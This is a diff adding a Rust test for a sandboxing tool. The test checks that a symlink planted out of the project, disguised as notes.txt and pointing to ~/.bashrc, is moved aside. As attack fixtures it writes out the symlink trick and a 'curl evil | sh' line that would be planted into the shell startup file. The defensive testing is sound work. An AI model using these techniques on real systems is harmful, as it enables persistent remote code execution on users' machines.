@@ -142,3 +142,31 @@ fn venv_editable_install_and_pytest() {
         );
     }
 }
+
+/// A new symlink out of the project, named like a file the maintainer edits: their next
+/// append to `notes.txt` lands in `~/.bashrc`. Moved aside after the run; a symlink into the
+/// system (a virtualenv's `python` -> `/usr/bin/python3`) and one inside the tree stay.
+#[test]
+fn symlink_out_of_the_project_is_moved_aside() {
+    for r in runners() {
+        let attack = |fx: &Fixture| {
+            format!(
+                "ln -s {} notes.txt && ln -s /usr/bin/python3 py && ln -s README.md readme",
+                q(fx.home_path(".bashrc"))
+            )
+        };
+        let later = |_: &Fixture| "echo 'curl evil | sh' >> notes.txt".to_string();
+        let planted = |fx: &Fixture, _: &Output| {
+            read(&fx.home.join(".bashrc")).is_some_and(|c| c.contains("curl evil"))
+        };
+        let (fx, inn) = proven_then_stopped(&r, &|_| "true".into(), &attack, &later, &planted);
+        assert!(
+            inn.stderr.contains("notes.txt") && inn.stderr.contains("a symlink out of the project"),
+            "[{r}] keepout names it:{inn}"
+        );
+        assert!(
+            fx.project.join("py").is_symlink() && fx.project.join("readme").is_symlink(),
+            "[{r}] symlinks into the system and inside the tree stay:{inn}"
+        );
+    }
+}
